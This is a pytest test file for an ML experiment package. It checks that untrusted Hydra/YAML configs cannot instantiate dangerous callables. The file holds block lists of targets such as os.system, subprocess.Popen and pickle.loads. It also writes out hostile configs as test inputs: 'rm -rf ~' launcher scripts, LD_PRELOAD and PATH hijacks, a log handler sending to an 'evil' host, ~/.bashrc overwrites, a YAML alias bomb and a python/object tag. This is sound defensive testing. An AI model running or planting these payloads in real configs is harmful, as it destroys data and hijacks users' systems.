"""What a stranger's configuration, or a wrong word, may call: only the parts of each group.

A file cannot allow more, neither in our groups nor in Hydra's section, which is built before a run
begins.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from fishr_exp.configuration import permissions
from fishr_exp.configuration.binding import part
from fishr_exp.configuration.options import conf_dir, registered
from fishr_exp.configuration.permissions import check_hydra, permissions_of
from fishr_exp.core.errors import ConfigError
from fishr_exp.runs.keys import PARTS
from tests.e2e.conftest import Command

OURS = "fishr_exp."
# By group, what is no part of it: of the system, of libraries, and of this package.
REFUSED = {
    "dataset": [
        "os.system", "subprocess.Popen", "subprocess.getoutput", "builtins.exec", "builtins.open",
        "shutil.rmtree", "pathlib.Path.unlink", "importlib.import_module", "pickle.loads",
        "torch.load", "torch.hub.load", "numpy.fromfile", "torchvision.datasets.ImageFolder",
        f"{OURS}data.download.unpacking.unpack", f"{OURS}data.download.unpacking.arrange",
        f"{OURS}data.download.transfer.transfer", f"{OURS}runs.files.write_atomically",
        f"{OURS}data.datasets.image_folder.find_images", f"{OURS}data.datasets.image_folder.Path",
        f"{OURS}data.images.cache.shutil.rmtree", f"{OURS}trainers.erm.Erm",
        f"{OURS}data.datasets", OURS, ".", "", "a..b", "é.ü", "os", "system",
    ],
    "model": [
        "torch.hub.load", "torch.nn.Linear", "torch.jit.load", "torchvision.models.resnet18",
        f"{OURS}data.datasets.digits.colored_digits", f"{OURS}models.backbone.torch",
        f"{OURS}models.backbone.nn.Linear", "timm.create_model",
    ],
    "loss": ["torch.nn.CrossEntropyLoss", f"{OURS}gradient_variance.losses.torch.save",
             f"{OURS}training.averaging.ema.Ema"],
    "trainer": ["os.remove", f"{OURS}trainers.erm.torch.load", f"{OURS}trainers.fishr.Fisher",
                f"{OURS}training.run.run", "fishr_experts.trainers.Erm"],
    "optimizer": [
        f"{OURS}tracking.mlflow.MlflowMirror", "torch.optim.lr_scheduler.StepLR",
        "torch.optim.Optimizer", "torch.optim.swa_utils.update_bn", "torch.optim.adam.torch.load",
        "torch.optim.adam.Tensor", "torch.optimize.Adam", "torch.save",
    ],
    "observer": [f"{OURS}training.early_stopping.ConfigError", "time.sleep",
                 f"{OURS}trainers.erm.Erm"],
    "averaging": ["torch.optim.swa_utils.AveragedModel", f"{OURS}training.checkpoint.Checkpoints"],
    "tracker": ["mlflow.start_run", f"{OURS}runs.run_folder.RunFolder", f"{OURS}trainers.irm.Irm",
                f"{OURS}tracking.mirror.Mirror"],
}  # fmt: skip


@pytest.mark.parametrize(
    ("group", "target"), [(group, name) for group, names in REFUSED.items() for name in names]
)
def test_a_group_builds_only_its_parts(group: str, target: str) -> None:
    with pytest.raises(ConfigError) as caught:
        part({"_target_": target}, group)
    (line,) = str(caught.value).splitlines()
    assert line.startswith(f"{group}._target_={target}")
    assert f"pass {group}=NAME" in line


@pytest.mark.parametrize("group", PARTS)
def test_every_option_builds_a_registered_part(group: str) -> None:
    assert registered(group)
    for path in (conf_dir() / group).glob("*.yaml"):
        content = OmegaConf.load(path)
        node = OmegaConf.select(content, group) or content
        target = OmegaConf.select(node, "_target_")
        if target:
            assert callable(permissions.target(target, group, []))


@pytest.mark.parametrize("name", ["mylib.run", "mylib.Popen", "mylib.os.system", "mylib.path"])
def test_a_trusted_module_gives_only_what_is_its_own(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mylib.py").write_text(
        "import os\nfrom os import path\nfrom subprocess import Popen, run\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ConfigError):
        permissions.target(name, "model", ["mylib"])


# --- the section `hydra` of a file ---

OF_HYDRA = {
    "callback": {"callbacks": {"mine": {"_target_": "os.system", "command": "touch MARK"}}},
    "callback through hydra": {"callbacks": {"mine": {
        "_target_": "hydra.utils.instantiate", "config": {"_target_": "os.getcwd"}}}},
    "callback through us": {"callbacks": {"mine": {
        "_target_": "fishr_exp.configuration.callbacks.Path.unlink"}}},
    "callback of a package": {"callbacks": {"mine": {"_target_": "mylab.Callback"}}},
    "callback by interpolation": {"callbacks": {"mine": {"_target_": "${oc.env:WHAT}"}}},
    "reference to a callback": {"callbacks": {"mine": "${evil}"}},
    "reference to all callbacks": {"callbacks": "${evil}"},
    "reference to a launcher": {"launcher": "${evil}"},
    "reference to a sampler": {"sweeper": {"sampler": "${evil}"}},
    "reference to the logs": {"job_logging": "${evil}"},
    "reference to a stream": {"job_logging": {"handlers": {"h": {
        "class": "logging.StreamHandler", "stream": "${evil}"}}}},
    "reference within a stream": {"job_logging": {"handlers": {"h": {
        "class": "logging.StreamHandler", "stream": "ext:${evil}"}}}},
    "reference to the job": {"job": "${evil}"},
    "reference to the environment": {"job": {"env_set": "${evil}"}},
    "reference to the name of the job": {"job": {"name": "${evil}"}},
    "attribute of a handler": {"job_logging": {"handlers": {"h": {
        "class": "logging.NullHandler", ".": {"baseFilename": "/home/me/.bashrc"}}}}},
    "line of a script": {"launcher": {"comment": "x\nrm -rf ~"}},
    "search space of another sweeper": {"sweeper": {"custom_search_space": "os.system"}},
    "name that a module imports": {"callbacks": {"mine": {
        "_target_": "fishr_exp.configuration.callbacks.RunFolder"}}},
    "argument of a callback": {"callbacks": {"check_run_folder": {
        "_target_": "fishr_exp.configuration.callbacks.CheckRunFolder",
        "x": {"_target_": "subprocess.Popen"}}}},
    "argument in a list": {"launcher": {"x": [{"_target_": "subprocess.Popen"}]}},
    "sampler": {"sweeper": {"sampler": {"_target_": "builtins.exec"}}},
    "sampler through optuna": {"sweeper": {"sampler": {"_target_": "optuna.samplers.os.system"}}},
    "handler": {"job_logging": {"handlers": {"h": {"class": "subprocess.Popen", "args": "x"}}}},
    "handler that sends": {"job_logging": {"handlers": {"h": {
        "class": "logging.handlers.HTTPHandler", "host": "evil", "url": "/"}}}},
    "formatter": {"job_logging": {"formatters": {"f": {"()": "os.system", "command": "x"}}}},
    "formatter through logging": {"hydra_logging": {"formatters": {"f": {"()": "logging.os.system",
        "command": "x"}}}},
    "filter": {"hydra_logging": {"filters": {"f": {"()": "builtins.eval", "source": "1"}}}},
    "import of a module": {"job_logging": {"handlers": {"h": {
        "class": "logging.StreamHandler", "stream": "ext://antigravity.x"}}}},
    "log over a file": {"job_logging": {"handlers": {"file": {
        "class": "logging.FileHandler", "filename": "/home/me/.bashrc", "mode": "w"}}}},
    "log beside the run": {"job_logging": {"handlers": {"file": {
        "class": "logging.FileHandler",
        "filename": "${hydra.runtime.output_dir}/../../notes.log"}}}},
    "log over the records": {"job_logging": {"handlers": {"file": {
        "class": "logging.FileHandler",
        "filename": "${hydra.runtime.output_dir}/records.jsonl"}}}},
    "name of the job": {"job": {"name": "../../notes"}},
    "environment": {"job": {"env_set": {"FISHR_EXP_ALLOW_TARGETS": "subprocess"}}},
    "path of programs": {"job": {"env_set": {"PATH": "/tmp/evil"}}},
    "preloaded library": {"job": {"env_set": {"LD_PRELOAD": "/tmp/evil.so"}}},
    "output_subdir": {"output_subdir": "/home/me/project/conf"},
    "script of a cluster": {"launcher": {"setup": ["rm -rf ~"]}},
    "python of a cluster": {"launcher": {"python": "/tmp/evil"}},
    "parameters of a cluster": {"launcher": {"additional_parameters": {"wrap": "rm -rf ~"}}},
}  # fmt: skip


@pytest.mark.parametrize("attack", OF_HYDRA)
def test_hydras_section_calls_and_overwrites_nothing(attack: str) -> None:
    with pytest.raises(ConfigError, match="a file cannot set this: ") as caught:
        check_hydra(OmegaConf.create({"hydra": OF_HYDRA[attack]}))
    (line,) = str(caught.value).splitlines()
    assert line.startswith("hydra.")
    assert "if you trust it" in line


def test_what_the_whole_section_refers_to_is_checked() -> None:
    evil = OF_HYDRA["callback"]
    with pytest.raises(
        ConfigError, match=r"hydra.callbacks.mine._target_=os.system: a file cannot"
    ):
        check_hydra(OmegaConf.create({"hydra": "${evil}", "evil": evil}))


def test_what_is_typed_is_trusted() -> None:
    file = {"job": {"env_set": {"PATH": "x"}}, "launcher": {"setup": ["module load x"]}}
    config = OmegaConf.create({"hydra": file})
    check_hydra(config, ["hydra.job.env_set.PATH", "hydra.launcher.setup"])
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup"):
        check_hydra(config, ["hydra.job.env_set", "hydra/launcher", "hydra.launcher.setu"])
    callback = OmegaConf.create({"hydra": OF_HYDRA["callback of a package"]})
    with permissions_of(["allow_targets=[mylab]"]):
        check_hydra(callback)
    with pytest.raises(ConfigError, match=r"pass allow_targets=\[mylab.Callback\]"):
        check_hydra(callback)


@pytest.mark.parametrize(
    "word", ["allow_targets=[a.b,c]", "+allow_targets=[a.b, c]", "++allow_targets='[a.b, \"c\"]'"]
)
def test_words_that_allow(word: str) -> None:
    with permissions_of([word]):
        assert permissions.allowed_targets(["c", "a.b.d"]) == ["a.b", "c"]
        assert os.environ["FISHR_EXP_ALLOW_TARGETS"] == "a.b,c"  # for processes of a launcher


# --- files as a whole ---

BOMB = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
FILES = {
    "allows itself": (
        "# @package _global_\nallow_targets: [subprocess]\n"
        "dataset:\n  _target_: subprocess.getoutput\n  cmd: touch MARK\n",
        "allow_targets=['subprocess']: a file cannot allow this",
    ),
    "allows itself as text": (
        "# @package _global_\nallow_targets: subprocess\n",
        "allow_targets=subprocess: a file cannot allow this",
    ),
    "pretends to be typed": (
        "# @package _global_\nallow_targets: [subprocess]\n"
        "hydra:\n  overrides:\n    task: ['allow_targets=[subprocess]']\n",
        "a file cannot allow this",
    ),
    "sets the variable": (
        "# @package _global_\nhydra:\n  job:\n    env_set:\n      FISHR_EXP_ALLOW_TARGETS: os\n",
        "hydra.job.env_set.FISHR_EXP_ALLOW_TARGETS=os: a file cannot set this",
    ),
    "calls a function": (
        "_target_: subprocess.getoutput\ncmd: touch MARK\n",
        "dataset._target_=subprocess.getoutput: is not what an option of dataset builds",
    ),
    "calls a function of Hydra's": (
        "# @package _global_\nhydra:\n  callbacks:\n    mine:\n"
        "      _target_: pathlib.Path.touch\n",
        "hydra.callbacks.mine._target_=pathlib.Path.touch: a file cannot set this",
    ),
    "bomb of aliases": (
        f"a0: &a0 [{', '.join(['lol'] * 9)}]\n{BOMB}",
        "its aliases stand for more than 100000 values",
    ),
    "alias of itself": ("a: &a [*a]\n", "its aliases stand for more than 100000 values"),
    "endless nesting": ("a: " + "[" * 20_000, "nested too deeply"),
    "no YAML": ("a: [", "HYDRA_FULL_ERROR=1 shows where"),
    "a list": ("- a\n", "dataset=['a']: has no _target_ to build; pass dataset=NAME"),
    "code in a tag": ("!!python/object/apply:os.system ['touch MARK']\n", "could not determine"),
    "binary": ("\0\1", "HYDRA_FULL_ERROR=1 shows where"),
}


@pytest.mark.parametrize("attack", FILES)
def test_a_file_of_somebody_else(
    attack: str, fishr_exp: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, said = FILES[attack]
    monkeypatch.chdir(tmp_path)
    (tmp_path / "conf/dataset").mkdir(parents=True)
    (tmp_path / "conf/dataset/theirs.yaml").write_text(text)
    outcome = fishr_exp(f"--config-dir={tmp_path / 'conf'}", "dataset=theirs",
                        "test_domains=[minus90]")  # fmt: skip
    assert outcome.status == 2
    (line,) = outcome.err.splitlines()
    assert said in line
    assert not (tmp_path / "MARK").exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["conf"]


def test_the_value_of_a_flag_allows_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "hydra/experiment").mkdir(parents=True)
    theirs = "# @package _global_\nhydra:\n  callbacks:\n    mine:\n      _target_: os.getcwd\n"
    (tmp_path / "hydra/experiment/theirs.yaml").write_text(theirs)
    with permissions_of(["--config-dir", "hydra", "experiment=theirs"]):
        from hydra import compose, initialize_config_dir

        own = f"hydra.searchpath=[file://{tmp_path / 'hydra'}]"
        with (
            initialize_config_dir(str(conf_dir()), version_base="1.3"),
            pytest.raises(ConfigError, match=r"hydra\.callbacks\.mine\._target_=os\.getcwd"),
        ):
            compose("config", [own, "experiment=theirs"], return_hydra_config=True)


def test_a_sweep_checks_every_option(
    fishr_exp: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "conf/experiment").mkdir(parents=True)
    theirs = "# @package _global_\nhydra:\n  job_logging:\n    formatters:\n      f:\n        "
    (tmp_path / "conf/experiment/theirs.yaml").write_text(theirs + "(): pathlib.Path.touch\n")
    words = (f"--config-dir={tmp_path / 'conf'}", "experiment=quickstart_erm,theirs")
    outcome = fishr_exp("-m", *words)
    assert outcome.status == 2
    assert "hydra.job_logging.formatters.f.()=pathlib.Path.touch" in outcome.err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["conf"]
